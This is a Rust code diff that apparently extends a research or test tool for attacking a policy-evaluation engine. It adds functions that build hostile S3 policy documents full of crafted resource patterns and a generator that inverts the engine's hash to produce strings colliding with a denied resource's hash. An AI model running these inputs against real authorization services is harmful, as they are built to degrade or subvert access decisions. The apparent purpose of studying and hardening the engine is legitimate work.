@@ -21,9 +21,19 @@ pub enum Attack {
     OneKey,
     /// Names of actions, as many as fit.
     Actions,
+    /// Beginnings of few lengths, each of which the victim's decision looks for.
+    FewLengths,
+    /// The same, of every action of the service and of any action.
+    FewLengthsOfAnyAction,
+    /// Beginnings of sixth fields, of few lengths.
+    Fields,
+    /// All of this: of each action part, beginnings of resources and of sixth fields.
+    Everything,
+    /// The same, and what the victim's decision looks for meets others of its hash.
+    CollidingEverything,
 }
 
-/// All of them.
+/// Those that fill trees which the others have as well.
 pub const ATTACKS: [Attack; 7] = [
     Attack::Collisions,
     Attack::Lengths,
@@ -32,6 +42,15 @@ pub const ATTACKS: [Attack; 7] = [
     Attack::Keys,
     Attack::OneKey,
     Attack::Actions,
+];
+
+/// Those that give a tree other lengths, or open trees that nobody else has.
+pub const OPENING: [Attack; 5] = [
+    Attack::FewLengths,
+    Attack::FewLengthsOfAnyAction,
+    Attack::Fields,
+    Attack::Everything,
+    Attack::CollidingEverything,
 ];
 
 /// The largest policy that AWS takes from a customer, in characters.
@@ -80,6 +99,22 @@ pub fn hostile(attack: Attack, victim: &str, bytes: usize) -> String {
         }
         Attack::Lengths => list(get, &lengths),
         Attack::LengthsOfAnyAction => list(r#"["s3:*","*"]"#, &lengths),
+        Attack::FewLengths => list(get, &few_lengths("arn:aws:s3:::", victim, bytes / 64)),
+        Attack::FewLengthsOfAnyAction => {
+            list(r#"["s3:GetObject","s3:*","*"]"#, &few_lengths("arn:aws:s3:::", victim, bytes / 64))
+        }
+        Attack::Fields => list(get, &few_lengths("arn:*:s3:::", victim, bytes / 64)),
+        Attack::Everything => list(
+            r#"["s3:GetObject","s3:*","*"]"#,
+            &[
+                few_lengths("arn:aws:s3:::", victim, bytes / 128),
+                few_lengths("arn:*:s3:::", victim, bytes / 128),
+            ]
+            .concat(),
+        ),
+        Attack::CollidingEverything => {
+            list(r#"["s3:GetObject","s3:*","*"]"#, &colliding_lengths(victim, bytes / 50))
+        }
         Attack::Chain => {
             // The victim's last byte is `/`, which comes before all of these.
             let start = victim.trim_end_matches('/');
@@ -100,6 +135,31 @@ pub fn hostile(attack: Attack, victim: &str, bytes: usize) -> String {
     }
 }
 
+/// Patterns of the eight lengths that the victim's decision asks for first: up to those of its own resource, `report`.
+fn few_lengths(head: &str, victim: &str, count: usize) -> Vec<String> {
+    let longest = victim.len() + "report".len() - "arn:aws:s3:::".len();
+    (0..count.max(8))
+        .map(|number| format!("{head}evil{number:0width$}*", width = longest - 4 - number % 8))
+        .collect()
+}
+
+/// Patterns of resources and of sixth fields whose hashes are those of as much of the victim's resource, which is
+/// denied: of each length that the decision asks for.
+fn colliding_lengths(victim: &str, count: usize) -> Vec<String> {
+    let denied = format!("{}report", victim.replace("/home/", "/away/"));
+    let field = denied.strip_prefix("arn:aws:s3:::").unwrap_or_default();
+    let each = count / 15;
+    let heads = (32..=38).filter_map(|len| denied.get(..len));
+    let heads = heads.flat_map(|target| colliding(target, each)).map(|text| format!("{text}*"));
+    let fields = (18..=25).filter_map(|len| field.get(..len));
+    let fields = fields.flat_map(|target| colliding(target, each)).map(|text| format!("arn:*:s3:::{text}*"));
+    // So that each length is there when not all fit.
+    let (heads, fields): (Vec<_>, Vec<_>) = (heads.collect(), fields.collect());
+    let nth =
+        |list: &[String], at: usize| list.iter().skip(at).step_by(each.max(1)).cloned().collect::<Vec<_>>();
+    (0..each).flat_map(|at| [nth(&heads, at), nth(&fields, at)].concat()).collect()
+}
+
 fn policy(action: &str, resources: &[String]) -> String {
     format!(
         r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":{action},"Resource":["{}"]}}]}}"#,
@@ -108,8 +168,6 @@ fn policy(action: &str, resources: &[String]) -> String {
 }
 
 const STEP: u64 = 0xADF8_5458_A2BB_4A9B;
-const LENGTH: u64 = 0xAFDC_5620_273D_3CF1;
-const FINISH: u64 = 0xD8B9_C583_CE2D_3695;
 
 /// A step of the engine's hash.
 fn step(state: u64, word: u64) -> u64 {
@@ -127,53 +185,49 @@ fn inverse(odd: u64) -> u64 {
     (0..6).fold(odd, |found, _| found.wrapping_mul(2_u64.wrapping_sub(odd.wrapping_mul(found))))
 }
 
-fn words(text: &str) -> Vec<u64> {
-    text.as_bytes().as_chunks::<8>().0.iter().map(|word| u64::from_le_bytes(*word)).collect()
+fn words(text: &[u8]) -> Vec<u64> {
+    text.as_chunks::<8>().0.iter().map(|word| u64::from_le_bytes(*word)).collect()
 }
 
-/// The engine's hash of a beginning of whole words (`hash::prefix` there).
-#[must_use]
-pub fn hash_of_words(text: &str) -> u64 {
-    assert!(text.len().is_multiple_of(8) && !text.is_empty(), "whole words");
-    let words = words(text);
-    let state = words.iter().fold(0, |state, word| step(state, *word));
-    let state = step(state, words[words.len() - 1]) ^ (text.len() as u64).wrapping_mul(LENGTH);
-    let state = (state ^ state >> 29).wrapping_mul(FINISH);
-    state ^ state >> 32
+/// The last eight bytes of a text.
+fn last_word(text: &[u8]) -> u64 {
+    text.last_chunk().map_or(0, |word| u64::from_le_bytes(*word))
 }
 
-/// Texts as long as `target`, a [`beginning`], that have its hash in all of its 64 bits. Each step of the hash can be
-/// undone: the first two words and the last are chosen, and the third follows from them; where it is text, it is kept.
-///
-/// # Panics
-/// Where `target` is no beginning.
+/// The state of the engine's hash before it is finished (`hash::prefix` there).
+fn state_of(text: &[u8]) -> u64 {
+    let state = words(text).iter().fold(0, |state, word| step(state, *word));
+    step(state, last_word(text))
+}
+
+/// Texts as long as `target`, which has two words or more, that have its hash in all of its 64 bits. Each step of the
+/// hash can be undone: all bytes are chosen but those of the last whole word but one, and these follow from the others;
+/// where they are text, they are kept.
 #[must_use]
 pub fn colliding(target: &str, count: usize) -> Vec<String> {
-    assert_eq!(target.len(), 32);
-    let mut state = hash_of_words(target);
-    state ^= state >> 32;
-    state = state.wrapping_mul(inverse(FINISH));
-    state ^= state >> 29 ^ state >> 58;
-    let end = unstep(state ^ 32_u64.wrapping_mul(LENGTH));
+    let end = state_of(target.as_bytes());
     let own = b"abcdefghijklmnopqrstuvwxyz0123456789-./ABCDEFGHIJKLMNOPQRSTUVWXYZ_=+@";
+    let free = (target.len() / 8 - 2) * 8;
+    let front = if target.starts_with("arn:") { "arn:aws:s3:::bad" } else { "evil-bad" };
+    let mut text =
+        [front.get(..free).unwrap_or_default().as_bytes(), &vec![b'a'; target.len() - free]].concat();
+    let start = words(&text[..free]).iter().fold(0, |state, word| step(state, *word));
     let mut found = Vec::new();
-    let mut number = 0_usize;
-    while found.len() < count {
-        number += 1;
-        let mut last = [0; 8];
+    for number in 0_usize.. {
+        if found.len() == count {
+            break;
+        }
         let mut rest = number;
-        for byte in &mut last {
+        for byte in text[free + 8..].iter_mut().take(8) {
             *byte = own[rest % own.len()];
             rest /= own.len();
         }
-        let first = b"arn:aws:s3:::bad";
-        let last_word = u64::from_le_bytes(last);
-        let before = unstep(end ^ last_word) ^ last_word;
-        let start = words("arn:aws:s3:::bad").iter().fold(0, |state, word| step(state, *word));
+        let whole = u64::from_le_bytes(text[free + 8..].first_chunk().copied().unwrap_or_default());
+        let before = unstep(unstep(end) ^ last_word(&text)) ^ whole;
         let third = (unstep(before) ^ start).to_le_bytes();
         if third.iter().all(|byte| own.contains(byte)) {
-            let text = [&first[..], &third, &last].concat();
-            found.extend(String::from_utf8(text));
+            text[free..free + 8].copy_from_slice(&third);
+            found.extend(String::from_utf8(text.clone()));
         }
     }
     found
